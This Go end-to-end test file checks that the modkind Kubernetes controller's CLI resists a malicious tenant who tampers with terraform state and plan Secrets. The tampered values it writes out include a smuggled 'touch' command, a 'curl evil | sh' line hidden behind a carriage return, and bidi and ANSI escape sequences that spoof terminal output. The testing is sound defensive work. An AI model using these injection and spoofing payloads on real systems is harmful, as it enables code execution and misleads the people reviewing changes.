package e2e

import (
	"bytes"
	"compress/gzip"
	"context"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	kerrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/modkind/modkind/kind"
	"github.com/modkind/modkind/state"
)

// Issue 38, items 1 and 2: what a cluster admin reviews with modkind state show is what modkind
// state accept signs, and nothing a tenant wrote acts on the admin's terminal. The tenant acts
// with its own service account's token against the chart's RBAC; the admin runs the CLI with a
// kubeconfig of its own; modkind runs as the chart's service account.
func TestStateReviewAsTenant(t *testing.T) {
	g := startRBACGround(t)
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	refused, _ := startControllerAs(ctx, t, g)
	tenant := rbacClient(t, tenantToken(ctx, t, g, rbacTenant, "edit"))
	mod := applyModule(ctx, t, g, refused, "reviewed", "Reviewed", guardedModule)
	kubeconfig := groundKubeconfig(t, g)
	keys := "--keys=" + rbacNamespace + "/" + rbacRelease + "-state-keys"

	swapped := instance("Reviewed", rbacTenant, "swapped", map[string]any{"name": "alpha"})
	tricky := instance("Reviewed", rbacTenant, "tricky", map[string]any{"name": "beta"})
	planned := instance("Reviewed", rbacTenant, "planned", map[string]any{"name": "gamma"})
	for _, u := range []*unstructured.Unstructured{swapped, tricky, planned} {
		if err := tenant.Create(ctx, u); err != nil {
			t.Fatal(err)
		}
	}
	for _, u := range []*unstructured.Unstructured{swapped, tricky, planned} {
		waitTenantReady(ctx, t, g, refused, u)
	}
	const notSigned = "is not one this controller wrote"

	// (a) The tenant drops the signature of a clean state, so that the admin reviews it; once the
	// admin has seen it, the tenant swaps in a state whose destroy-time command is its own.
	sec := stateSecret(ctx, t, tenant, swapped)
	original := sec.DeepCopy()
	delete(sec.Annotations, state.AnnotationMAC)
	if err := tenant.Update(ctx, sec); err != nil {
		t.Fatalf("a tenant may write its namespace's Secrets: %v", err)
	}
	waitSyncedFalse(ctx, t, g, refused, swapped, notSigned)
	code, out, stderr := runCLI("state", "show", "Reviewed."+rbacGroup+"/swapped", "-n", rbacTenant, "--kubeconfig", kubeconfig)
	digest := shownDigest(t, code, out, stderr)
	if !strings.Contains(out, `"value": "alpha"`) {
		t.Fatalf("modkind state show must print the clean state:\n%s", out)
	}
	marker := filepath.Join(t.TempDir(), "pwned")
	raw := bytes.Replace(stateBytes(t, sec), []byte(`"alpha"`), []byte(`"alpha; touch `+marker+`"`), -1)
	raw = bytes.Replace(raw, []byte(`"serial": `), []byte(`"serial": 1`), 1)
	writeState(ctx, t, tenant, swapped, raw)

	code, out, stderr = runCLI("state", "accept", "Reviewed."+rbacGroup+"/swapped", "-n", rbacTenant, "--digest", digest, keys, "--kubeconfig", kubeconfig)
	if code != 1 || !strings.Contains(stderr, "not signed: the state of Secret "+rbacTenant+"/") || !strings.Contains(stderr, "is not the one reviewed: it was written since") {
		t.Fatalf("accepting a state swapped since it was shown must be refused: exit %d\n%s%s", code, out, stderr)
	}
	if mac := stateSecret(ctx, t, g.admin, swapped).Annotations[state.AnnotationMAC]; mac != "" {
		t.Fatalf("the swapped state must stay unsigned, it carries %s=%s", state.AnnotationMAC, mac)
	}
	if err := tenant.Delete(ctx, swapped); err != nil {
		t.Fatal(err)
	}
	waitSyncedFalse(ctx, t, g, refused, swapped, notSigned)
	if _, err := os.Stat(marker); !os.IsNotExist(err) {
		t.Fatalf("the tenant's command ran in the controller: %s exists", marker)
	}
	// Without a digest, accept signs nothing and says how to get one.
	code, _, stderr = runCLI("state", "accept", "Reviewed."+rbacGroup+"/swapped", "-n", rbacTenant, keys, "--kubeconfig", kubeconfig)
	if code != 2 || !strings.Contains(stderr, "want --digest: run modkind state show Reviewed."+rbacGroup+"/swapped -n "+rbacTenant+" first") {
		t.Errorf("accept without --digest: want exit 2 telling to run state show, got %d:\n%s", code, stderr)
	}
	// The admin puts back what the controller wrote: the deletion goes on, with the real name.
	restored := stateSecret(ctx, t, g.admin, swapped)
	restored.Data, restored.Annotations = original.Data, original.Annotations
	if err := g.admin.Update(ctx, restored); err != nil {
		t.Fatal(err)
	}
	rbacWaitFor(ctx, t, "swapped destroyed once its state is restored", refused, func(ctx context.Context) (bool, any) {
		err := g.admin.Get(ctx, client.ObjectKeyFromObject(swapped), swapped.DeepCopy())
		return kerrors.IsNotFound(err), condition(ctx, t, g.admin, swapped, "Synced")
	})
	if _, err := os.Stat(marker); !os.IsNotExist(err) {
		t.Errorf("the tenant's command ran in the controller: %s exists", marker)
	}

	// (b) A state whose payload is followed, on its line, by a carriage return and a harmless
	// looking key that a terminal would draw over it, with bidi and C1 characters in strings.
	sec = stateSecret(ctx, t, tenant, tricky)
	hidden := `"value": "beta; curl evil | sh",` + "\r" + `      "other": "beta"                             ,`
	raw = bytes.Replace(stateBytes(t, sec), []byte(`"value": "beta",`), []byte(hidden), 1)
	raw = bytes.Replace(raw, []byte(`"value": "beta",`), []byte("\"value\": \"beta\u202e\u009b2J\u2066\","), 1)
	writeState(ctx, t, tenant, tricky, raw)
	code, out, stderr = runCLI("state", "show", "Reviewed."+rbacGroup+"/tricky", "-n", rbacTenant, "--kubeconfig", kubeconfig)
	shownDigest(t, code, out, stderr)
	for _, want := range []string{
		`"value": "beta; curl evil | sh",\r      "other": "beta"`,
		`"value": "beta\u202e\u009b2J\u2066",`,
		`It holds characters a terminal would act on or not show (such as \r, \x1b, \u202e): they are shown escaped above; the digest is of the bytes as stored.`,
		"It is not laid out as terraform writes a state",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("modkind state show lacks %q:\n%s", want, out)
		}
	}
	if i := strings.IndexAny(out, "\r\u202e\u009b\u2066\x1b"); i >= 0 {
		t.Errorf("modkind state show printed a control or format character at byte %d:\n%q", i, out)
	}

	// (d) A state that holds a key twice (here but for case): the reviewer reads the first, terraform
	// the last. show says so, and accept refuses it even with the digest show printed.
	raw = bytes.Replace(raw, []byte(`"version": `), []byte(`"Version": 3,`+"\n"+`  "version": `), 1)
	writeState(ctx, t, tenant, tricky, raw)
	code, out, stderr = runCLI("state", "show", "Reviewed."+rbacGroup+"/tricky", "-n", rbacTenant, "--kubeconfig", kubeconfig)
	digest = shownDigest(t, code, out, stderr)
	if want := `It holds key "version" twice in one object (or twice but for case): terraform reads the last one. It cannot be accepted.`; !strings.Contains(out, want) {
		t.Errorf("modkind state show lacks %q:\n%s", want, out)
	}
	code, out, stderr = runCLI("state", "accept", "Reviewed."+rbacGroup+"/tricky", "-n", rbacTenant, "--digest", digest, keys, "--kubeconfig", kubeconfig)
	if code != 1 || !strings.Contains(stderr, `not signed: the state holds key "version" twice`) {
		t.Errorf("accepting a state with a key twice must be refused: exit %d\n%s%s", code, out, stderr)
	}
	if mac := stateSecret(ctx, t, g.admin, tricky).Annotations[state.AnnotationMAC]; mac != "" {
		t.Errorf("a state with a key twice must stay unsigned, it carries %s=%s", state.AnnotationMAC, mac)
	}

	// (c) The tenant writes the readable plan of its instance: its text and counts reach the
	// admin's terminal only escaped.
	pref := kind.PlanRef(planned.GroupVersionKind().GroupKind().String(), rbacTenant, planned.GetName())
	plan := &corev1.Secret{}
	if err := tenant.Get(ctx, pref.NamespacedName, plan); err != nil {
		t.Fatal(err)
	}
	plan.Annotations[state.AnnotationPlanSummary] = "+0 ~0 -0\x1b[2J"
	plan.Data[state.KeyPlanText] = []byte("\nterraform_data.this will be destroyed\x1b[1A\x1b[2K\r  No changes.\u202e\n")
	if err := tenant.Update(ctx, plan); err != nil {
		t.Fatalf("a tenant may write its namespace's Secrets: %v", err)
	}
	code, out, stderr = runCLI("plan", "Reviewed."+rbacGroup+"/planned", "-n", rbacTenant, "--kubeconfig", kubeconfig)
	if code != 0 {
		t.Fatalf("modkind plan: exit %d\n%s%s", code, out, stderr)
	}
	for _, want := range []string{`(+0 ~0 -0\x1b[2J)`, `terraform_data.this will be destroyed\x1b[1A\x1b[2K\r  No changes.\u202e` + "\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("modkind plan lacks %q:\n%s", want, out)
		}
	}
	if i := strings.IndexAny(out, "\r\u202e\x1b"); i >= 0 {
		t.Errorf("modkind plan printed a control or format character at byte %d:\n%q", i, out)
	}

	if r := refused.String(); r != "" {
		t.Errorf("the API server refused modkind requests it made:\n%s", r)
	}
	_ = g.admin.Delete(ctx, stateSecret(ctx, t, g.admin, tricky))
	forget(ctx, t, g, mod, tricky, planned)
}

// shownDigest is the digest modkind state show printed, after checking that it printed one
// and the command that signs with it.
func shownDigest(t *testing.T, code int, out, stderr string) string {
	t.Helper()
	m := regexp.MustCompile(`\n---\nState Secret [^\n]*: resourceVersion [0-9]+, [0-9]+ bytes, SHA-256 ([0-9a-f]{64})\.\n(?:[^\n]*\n)*Once reviewed, sign exactly this state with:\n  modkind state accept [^\n]* --digest (sha256:([0-9a-f]{64})@[0-9]+)\n$`).FindStringSubmatch(out)
	if code != 0 || m == nil || m[1] != m[3] {
		t.Fatalf("modkind state show must print the state, its SHA-256 and the accept command with its digest: exit %d\n%s%s", code, out, stderr)
	}
	return m[2]
}

// stateBytes is the state a state Secret holds inline, decompressed.
func stateBytes(t *testing.T, sec *corev1.Secret) []byte {
	t.Helper()
	zr, err := gzip.NewReader(bytes.NewReader(sec.Data[state.KeyState]))
	if err != nil {
		t.Fatal(err)
	}
	raw, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// writeState writes raw, unsigned, as the state of u, with the tenant's client c.
func writeState(ctx context.Context, t *testing.T, c client.Client, u *unstructured.Unstructured, raw []byte) {
	t.Helper()
	sec := stateSecret(ctx, t, c, u)
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	_, _ = zw.Write(raw)
	_ = zw.Close()
	sec.Data[state.KeyState] = gz.Bytes()
	delete(sec.Annotations, state.AnnotationMAC)
	if err := c.Update(ctx, sec); err != nil {
		t.Fatalf("a tenant may write its namespace's Secrets: %v", err)
	}
}

// groundKubeconfig writes a kubeconfig of the ground's cluster admin, for the CLI.
func groundKubeconfig(t *testing.T, g *rbacGround) string {
	t.Helper()
	cfg := clientcmdapi.NewConfig()
	cfg.Clusters["test"] = &clientcmdapi.Cluster{Server: g.adminConfig.Host, CertificateAuthorityData: g.adminConfig.CAData}
	cfg.AuthInfos["admin"] = &clientcmdapi.AuthInfo{ClientCertificateData: g.adminConfig.CertData, ClientKeyData: g.adminConfig.KeyData,
		Token: g.adminConfig.BearerToken}
	cfg.Contexts["test"] = &clientcmdapi.Context{Cluster: "test", AuthInfo: "admin"}
	cfg.CurrentContext = "test"
	p := filepath.Join(t.TempDir(), "admin.kubeconfig")
	if err := clientcmd.WriteToFile(*cfg, p); err != nil {
		t.Fatal(err)
	}
	return p
}
